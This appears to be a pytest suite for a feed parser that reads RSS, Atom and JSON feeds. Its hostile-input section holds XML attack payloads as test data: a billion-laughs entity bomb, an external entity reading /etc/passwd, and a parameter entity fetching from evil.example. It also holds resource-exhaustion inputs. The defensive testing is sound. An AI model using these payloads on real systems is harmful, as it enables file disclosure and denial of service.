"""Feeds as they are found: old, broken, hostile, wrongly declared."""

import json
import re
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from connectors import errors
from connectors.feed import Feed
from connectors.http import Http

from .adapters.feed import FeedAdapter

URL = "https://blog.example/feed/"
SETTINGS = settings(max_examples=150, deadline=None, derandomize=True, database=None)
NAMESPACES = (
    'xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/" '
    'xmlns:thr="http://purl.org/syndication/thread/1.0" xmlns:slash="http://purl.org/rss/1.0/modules/slash/"'
)


def serving(body, **headers):
    content = body if isinstance(body, bytes) else body.encode()
    return lambda request: (200, {name.replace("_", "-"): value for name, value in headers.items()}, content)


def read(body, url=URL, **headers):
    """Return the items of a first run over a document."""
    return [item for page in listen(serving(body, **headers), url=url) for item in page.items]


def listen(answer, cursor=None, url=URL, **values):
    return list(Feed(Http(transport=answer), {"url": url, **values}).listen(cursor or {}))


def rss(*items, version="2.0", channel="", head=""):
    entries = "".join(f"<item>{item}</item>" for item in items)
    return (
        f'<?xml version="1.0"?>{head}<rss version="{version}" {NAMESPACES}><channel>{channel}{entries}</channel></rss>'
    )


# --- kinds -------------------------------------------------------------------------------------------------------


def test_rss_2_with_everything():
    item = read(
        rss(
            "<title>Hola &amp;amp; adi&#243;s</title><link>https://blog.example/hola/</link><dc:creator>Ana</dc:creator>"
            "<pubDate>Tue, 18 Nov 2025 10:00:00 +0100</pubDate><guid isPermaLink='false'>https://blog.example/?p=12</guid>"
            "<description>short</description>"
            "<content:encoded><![CDATA[<p>The <b>whole</b></p><p>text</p>]]></content:encoded>"
            "<category>Cloud</category><enclosure url='/a.mp3' type='audio/mpeg' length='1'/>"
            "<slash:comments>3</slash:comments>",
            channel="<language>es-ES</language>",
        )
    )[0]
    assert (item.external_id, item.realm, item.kind) == ("https://blog.example/?p=12", "", "article")
    assert (item.title, item.text, item.url) == ("Hola & adiós", "The whole\n\ntext", "https://blog.example/hola/")
    assert item.published_at == datetime(2025, 11, 18, 9, tzinfo=UTC)
    assert (item.author.name, item.author.realm, item.language, item.replies) == ("Ana", None, "es", 3)
    assert item.hashtags == ("cloud",)
    assert (item.attachments[0].kind, item.attachments[0].url) == ("audio", "https://blog.example/a.mp3")
    assert item.identifiers == {"guid": "https://blog.example/?p=12", "link": "https://blog.example/hola/"}


@pytest.mark.parametrize("version", ["0.91", "0.92", "0.93", "0.94", "2.0"])
def test_every_old_rss_is_read(version):
    doctype = (
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        '"http://my.netscape.com/publish/formats/rss-0.91.dtd">'
    )
    found = read(rss("<title>T &eacute;</title><link>https://a.example/1</link>", version=version, head=doctype))
    assert [(item.title, item.external_id) for item in found] == [("T é", "https://a.example/1")]


@pytest.mark.parametrize(
    "namespace", ["http://my.netscape.com/rdf/simple/0.9/", "http://purl.org/rss/1.0/"], ids=["0.90", "1.0"]
)
def test_rss_made_of_rdf_is_read(namespace):
    found = read(
        f'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="{namespace}">'
        "<channel><title>C</title></channel><item><title>T</title><link>https://a.example/1</link></item></rdf:RDF>"
    )
    assert [(item.title, item.url) for item in found] == [("T", "https://a.example/1")]


def test_atom_with_an_edit_an_author_and_an_answer():
    item = read(
        '<feed xmlns="http://www.w3.org/2005/Atom" xmlns:thr="http://purl.org/syndication/thread/1.0" xml:lang="en">'
        '<title>F</title><entry xml:base="https://blog.example/sub/"><id>tag:blog.example,2025:1</id>'
        '<title type="html">A &lt;b&gt;b&lt;/b&gt;'
        '</title><link rel="alternate" href="post-1"/><published>2025-01-01T10:00:00Z</published>'
        "<updated>2025-01-02T10:00:00Z"
        "</updated><author><name>Eva</name><uri>https://eva.example</uri><email>Eva@example.com</email></author>"
        '<thr:in-reply-to ref="tag:blog.example,2025:0"/><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">'
        "<p>x</p><p>y</p></div></content></entry></feed>"
    )[0]
    assert (item.external_id, item.realm, item.title, item.text) == ("tag:blog.example,2025:1", "", "A b", "x\n\ny")
    assert item.url == "https://blog.example/sub/post-1"
    assert (item.published_at.day, item.edited_at.day) == (1, 2)
    assert (item.author.name, item.author.email, item.author.url) == ("Eva", "eva@example.com", "https://eva.example")
    assert (item.kind, item.parent_id) == ("comment", "tag:blog.example,2025:0")


def test_json_feed():
    found = read(
        json.dumps(
            {
                "version": "https://jsonfeed.org/version/1.1", "title": "J", "language": "en-GB",
                "items": [
                    {"id": "https://blog.example/1", "url": "/1", "content_html": "<p>x</p>", "title": "T",
                     "date_published": "2025-01-01T10:00:00+01:00", "authors": [{"name": "Ana", "url": "/ana"}],
                     "tags": ["#Cloud"], "image": "/i.png",
                     "attachments": [{"url": "/a.mp3", "mime_type": "audio/mpeg"}]},
                    {"id": 2, "content_text": "plain <b>"},
                ],
            }
        )
    )  # fmt: skip
    item = found[1]
    assert (item.external_id, item.url, item.text, item.language) == (
        "https://blog.example/1", "https://blog.example/1", "x", "en"
    )  # fmt: skip
    assert [one.kind for one in item.attachments] == ["image", "audio"]
    assert (item.author.url, item.hashtags) == ("https://blog.example/ana", ("cloud",))
    assert (found[0].external_id, found[0].realm, found[0].text) == ("2", None, "plain <b>")


def test_comments_of_wordpress_know_what_they_answer():
    found = read(
        rss(
            "<title>By: Bob</title><link>https://blog.example/hola/#comment-3</link><guid isPermaLink='false'>"
            'https://blog.example/?p=12#comment-3</guid><description>In reply to &lt;a href="https://blog.example/hola/'
            '#comment-2"&gt;Ana&lt;/a&gt;. Yes</description>',
            "<title>By: Ana</title><link>https://blog.example/hola/#comment-2</link><guid isPermaLink='false'>"
            "https://blog.example/?p=12#comment-2</guid><description>Really?</description>",
        )
    )
    assert [(item.kind, item.parent_id, item.conversation_id) for item in found] == [
        ("comment", "https://blog.example/?p=12", "https://blog.example/?p=12"),
        ("comment", "https://blog.example/?p=12#comment-2", "https://blog.example/?p=12"),
    ]


# --- ids ---------------------------------------------------------------------------------------------------------


def test_ids_are_as_wide_as_they_are_unique():
    found = read(
        rss(
            "<title>none</title><description>words</description>",
            "<title>link</title><link>https://a.example/2</link>",
            "<title>own</title><guid isPermaLink='false'>1234 at blog</guid><link>https://a.example/3</link>",
            "<title>bare</title><guid>abc</guid>",
        )
    )
    by_title = {item.title: item for item in found}
    assert by_title["none"].external_id.startswith("sha256:") and by_title["none"].realm is None
    assert (by_title["link"].external_id, by_title["link"].realm) == ("https://a.example/2", "")
    assert (by_title["own"].external_id, by_title["own"].realm) == ("1234 at blog", None)
    assert (by_title["bare"].external_id, by_title["bare"].url) == ("abc", "")


def test_an_entry_without_an_id_keeps_the_one_it_got():
    first, again = (read(rss("<title>t</title><description>x</description>"))[0].external_id for _turn in range(2))
    assert first == again


def test_an_id_that_all_entries_share_is_no_id():
    found = read(
        rss(
            *(f"<guid>https://a.example/</guid><link>https://a.example/{n}</link><title>{n}</title>" for n in (1, 2, 3))
        )
    )
    assert sorted(item.external_id for item in found) == [f"https://a.example/{n}" for n in (1, 2, 3)]
    found = read(rss(*(f"<guid>https://a.example/</guid><title>{n}</title>" for n in (1, 2, 3))))
    assert len({item.external_id for item in found}) == 3


# --- dates and encodings -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "date", ["", "yesterday", "Wed, 99 Foo 2025", "0000-00-00", "Thu, 01 Jan 1970 00:00:00 GMT", "2099-01-01T00:00:00Z"]
)
def test_a_date_that_cannot_be_is_none(date):
    assert read(rss(f"<title>x</title><pubDate>{date}</pubDate>"))[0].published_at is None


TEXT = "El año pasado costó 5 €"


@pytest.mark.parametrize(
    ("declared", "real", "charset"),
    [
        ("utf-8", "utf-8", ""),
        ("", "utf-8", ""),
        ("iso-8859-1", "utf-8", ""),
        ("utf-8", "cp1252", ""),
        ("iso-8859-1", "cp1252", ""),
        ("", "cp1252", "windows-1252"),
        ("nonsense", "utf-8", ""),
        ("utf-8", "utf-8", "iso-8859-1"),
        ("utf-16", "utf-16", ""),
        ("", "utf-8-sig", "iso-8859-1"),
        ("iso-8859-15", "iso-8859-15", ""),
    ],
)
def test_text_is_right_whatever_is_declared(declared, real, charset):
    head = f'<?xml version="1.0" encoding="{declared}"?>' if declared else '<?xml version="1.0"?>'
    body = rss(f"<title>{TEXT}</title>").replace('<?xml version="1.0"?>', head).encode(real)
    kind = f"text/xml; charset={charset}" if charset else "text/xml"
    assert read(body, Content_Type=kind)[0].title == TEXT


# --- broken and hostile ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        rss("<title>a & b &nbsp; &copy; &unknown; c</title>"),
        rss("<title>a</title><foo:bar>undeclared</foo:bar><media:title>x</media:title>"),
        rss("<title>a</title><description>one <br> two</description>"),
        rss("<title>a\x00\x0b\x1f</title>"),
        "\n\n  " + rss("<title>a</title>"),
        rss("<title>a</title>")[:-20],
        rss("<title>a</title>") + "<!-- more -->junk",
    ],
    ids=["entities", "namespaces", "tags", "control characters", "blank lines", "cut", "trailing junk"],
)
def test_common_mistakes_are_mended(body):
    assert len(read(body)) == 1


BOMB = "<!ENTITY a 'aaaaaaaaaa'>" + "".join(
    f"<!ENTITY {c} '{'&' + p + ';'}{'&' + p + ';'}'>" for p, c in zip("abcdefgh", "bcdefghi", strict=True)
)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-le", "utf-16-be", "utf-8-sig", "cp1252"])
@pytest.mark.parametrize(
    "definition",
    [BOMB, "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "<!ENTITY % p SYSTEM 'http://evil.example/x'> %p;",
     "<!entity x 'y'>"],
    ids=["billion laughs", "file", "parameter", "lower case"],
)  # fmt: skip
def test_documents_that_define_entities_are_refused(definition, encoding):
    body = rss("<title>&a; &x;</title>", head=f"<!DOCTYPE rss [{definition}]>")
    with pytest.raises(errors.Malformed):
        read(body.encode(encoding))


def test_a_text_about_entities_is_no_attack():
    found = read(rss("<title>x</title><description><![CDATA[Write <!ENTITY a 'b'> in the DTD]]></description>"))
    assert len(found) == 1
    found = read("<!-- <!ENTITY x 'y'> -->" + rss("<title>x</title>").partition("?>")[2])
    assert len(found) == 1


@pytest.mark.parametrize(
    "body",
    [rss("<a>" * 100_000), "<rss>" * 100_000, rss(*["<title>x<b></title>"] * 3000), rss(*["<x/>" * 100] * 3000),
     "<!DOCTYPE " * 100_000, "<!--" * 200_000, rss("<title>" + "&" * 500_000 + "</title>"),
     rss("<title>" + "a:b=' " * 200_000 + "</title>"), "<rss " + "x" * 500_000, rss("<title>" + "<![CDATA[" * 50_000),
     rss("<description>" + "&lt;div&gt;" * 200_000 + "</description>"), "{" * 100_000, '{"version": ' * 50_000,
     rss("<pubDate>" + "1" * 100_000 + "</pubDate><author>" + "(a" * 100_000 + "</author>"),
     rss("<link>" + "http://" * 50_000 + "</link><guid>" + "x" * 100_000 + "</guid>")],
    ids=range(15),
)  # fmt: skip
@pytest.mark.timeout(120)  # a guard: what grows with the square of its length would take hours
def test_hostile_documents_come_to_an_end(body):
    try:
        for item in read(body):
            assert len(item.external_id) <= 500
    except errors.ConnectorError as error:
        assert error.message


@SETTINGS
@given(st.binary(max_size=400))
def test_any_bytes_are_a_feed_or_one_of_our_errors(body):
    try:
        read(body)
    except errors.ConnectorError as error:
        assert error.message


WHOLE = FeedAdapter.feed(range(3)).decode()


@SETTINGS
@given(st.lists(st.tuples(st.integers(0, len(WHOLE)), st.integers(0, 30), st.text(max_size=8)), min_size=1, max_size=4))
def test_a_feed_that_was_damaged_anywhere_is_read_or_refused(damages):
    body = WHOLE
    for place, length, text in damages:
        body = body[:place] + text + body[place + length :]
    try:
        for item in read(body.encode("utf-8", "surrogatepass")):
            json.dumps(item.identifiers)
            (item.text + item.title + item.external_id).encode()
    except errors.ConnectorError as error:
        assert error.message


# --- positions ---------------------------------------------------------------------------------------------------


def test_an_unchanged_feed_is_not_sent_again():
    adapter = FeedAdapter()
    adapter.publish(3)
    seen = []

    def answer(request):
        seen.append(request.headers.get("If-None-Match"))
        return adapter.answer(request)

    cursor = listen(answer)[-1].cursor
    page = listen(answer, cursor)[-1]
    assert seen == [None, '"3"']
    assert (page.items, page.cursor) == ([], cursor)


def test_last_modified_is_sent_back_too():
    seen = []

    def answer(request):
        seen.append(request.headers.get("If-Modified-Since"))
        return 200, {"Last-Modified": "Tue, 18 Nov 2025 10:00:00 GMT"}, rss("<title>x</title>").encode()

    listen(answer, listen(answer)[-1].cursor)
    assert seen == [None, "Tue, 18 Nov 2025 10:00:00 GMT"]


def test_edited_entries_come_again_and_unchanged_ones_do_not():
    def version(text):
        return serving(rss(f"<guid>a</guid><title>{text}</title>", "<guid>b</guid><title>same</title>"))

    cursor = listen(version("one"))[-1].cursor
    assert not [item for page in listen(version("one"), cursor) for item in page.items]
    assert [item.title for page in listen(version("two"), cursor) for item in page.items] == ["two"]


def test_an_entry_that_leaves_the_feed_says_nothing():
    cursor = listen(serving(rss("<guid>a</guid><title>a</title>", "<guid>b</guid><title>b</title>")))[-1].cursor
    pages = listen(serving(rss("<guid>b</guid><title>b</title>")), cursor)
    assert [page.items for page in pages] == [[]]


def test_entries_arrive_oldest_first():
    adapter = FeedAdapter()
    adapter.publish(10)
    assert [item.title for page in listen(adapter.answer) for item in page.items] == [
        f"Article {n}" for n in range(1, 11)
    ]


def test_pages_of_an_archived_feed_are_read_back_to_what_is_known():
    """RFC 5005: each document names the one before it."""
    documents = {"/feed/": range(7, 10), "/feed/2": range(4, 7), "/feed/1": range(1, 4), "/feed/0": range(1)}
    names = list(documents)
    asked = []

    def answer(request):
        path = request.url.removeprefix("https://blog.example")
        asked.append(path)
        older = names[names.index(path) + 1] if path != "/feed/0" else "/nowhere"
        entries = "".join(f"<entry><id>urn:uuid:{n}</id><title>{n}</title></entry>" for n in reversed(documents[path]))
        link = f'<link rel="prev-archive" href="{older}"/>'
        return 200, {}, f'<feed xmlns="http://www.w3.org/2005/Atom"><title>x</title>{link}{entries}</feed>'.encode()

    documents["/feed/"] = range(2, 3)
    cursor = listen(answer)[-1].cursor
    documents["/feed/"] = range(7, 10)
    asked.clear()
    pages = listen(answer, cursor)
    assert asked == ["/feed/", "/feed/2", "/feed/1"]
    assert sorted(item.title for page in pages for item in page.items) == ["1", "3", "4", "5", "6", "7", "8", "9"]


@settings(SETTINGS, max_examples=25)
@given(
    st.lists(st.integers(0, 90), min_size=1, max_size=3),
    st.lists(st.tuples(st.integers(0, 12), st.integers(1, 3)), max_size=6),
)
def test_a_long_catch_up_in_several_runs_loses_nothing(bursts, troubles):
    """Bursts of articles; runs that read few pages back, fail after some requests, are killed after a page."""
    adapter, troubles, cursor, known = FeedAdapter(), list(troubles), {}, set()

    def run():
        nonlocal cursor
        fails_after, killed_after = troubles.pop() if troubles else (10**6, 10**6)
        asked = 0

        def answer(request):
            nonlocal asked
            asked += 1
            return (503, {}, b"") if asked > fails_after else adapter.answer(request)

        try:
            for number, page in enumerate(Feed(Http(transport=answer), {"url": URL}).listen(cursor), 1):
                cursor = json.loads(json.dumps(page.cursor, sort_keys=True))
                known.update(item.external_id for item in page.items)
                if number == killed_after:
                    return
        except errors.Retriable:
            pass

    with pytest.MonkeyPatch.context() as patched:
        patched.setattr("connectors.feed.MAX_OLDER_PAGES", 4)
        patched.setattr("connectors.feed.PAGE", 7)
        while not cursor:
            run()
        for burst in bursts:
            adapter.publish(burst)
            run()
        for _turn in range(len(troubles) + 12):
            run()
    assert known == {f"https://blog.example/?p={number}" for number in adapter.articles}


def test_older_pages_of_another_host_are_not_read():
    asked = []

    def answer(request):
        asked.append(request.url)
        number = len(asked)
        link = '<link rel="next" href="https://elsewhere.example/2"/>'
        body = f'<feed xmlns="http://www.w3.org/2005/Atom">{link}<entry><id>urn:uuid:{number}</id></entry></feed>'
        return 200, {}, body.encode()

    listen(answer, listen(answer)[-1].cursor)
    assert {url.split("/")[2] for url in asked} == {"blog.example"}


def test_a_site_that_gives_the_same_page_for_ever_ends():
    counter = iter(range(10**6))

    def answer(request):
        return 200, {}, FeedAdapter.feed([next(counter)])

    pages = listen(answer, listen(answer)[-1].cursor)
    assert sum(page.requests for page in pages) <= 61


# --- looking again -----------------------------------------------------------------------------------------------


def test_a_page_that_is_still_there_says_only_that():
    adapter = FeedAdapter()
    adapter.publish(1)
    item = listen(adapter.answer)[0].items[0]
    feed = Feed(Http(transport=serving("<html>changed layout</html>")), {"url": URL})
    again = feed.lookup(item.external_id, item.identifiers)
    assert (again.external_id, again.realm, again.partial, again.text) == (item.external_id, "", True, "")


def test_rejected_entries_do_not_keep_the_others_from_being_read():
    body = {"version": "https://jsonfeed.org/version/1", "items": [5, None, {"id": "1"}, [], {"id": "2", "tags": 7}]}
    pages = listen(serving(json.dumps(body)))
    assert [item.external_id for page in pages for item in page.items] == ["2", "1"]
    assert sum(len(page.rejects) for page in pages) == 3
    assert all(re.search(r"\w", reject.error) for page in pages for reject in page.rejects)
